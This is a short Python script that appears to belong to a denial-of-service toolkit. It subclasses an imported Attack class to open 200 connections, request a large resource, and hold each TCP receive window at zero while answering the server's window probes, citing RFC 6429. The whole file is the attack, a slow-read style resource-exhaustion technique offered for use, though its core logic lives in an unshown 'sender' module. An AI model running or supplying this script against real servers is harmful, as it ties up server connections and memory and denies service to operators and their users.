#!/usr/bin/env python3
"""Asks for something large on many connections and takes nothing: each keeps its window closed and answers the
server's probes (RFC 6429)."""

from sender import Attack, arguments, request, stands


class ZeroWindow(Attack):
    def begin(self, sock):
        sock.sendall(request(self.path()))

    def step(self, sock):
        return stands(sock)


ZeroWindow(arguments(__doc__, connections=200), receive_buffer=4096).run()
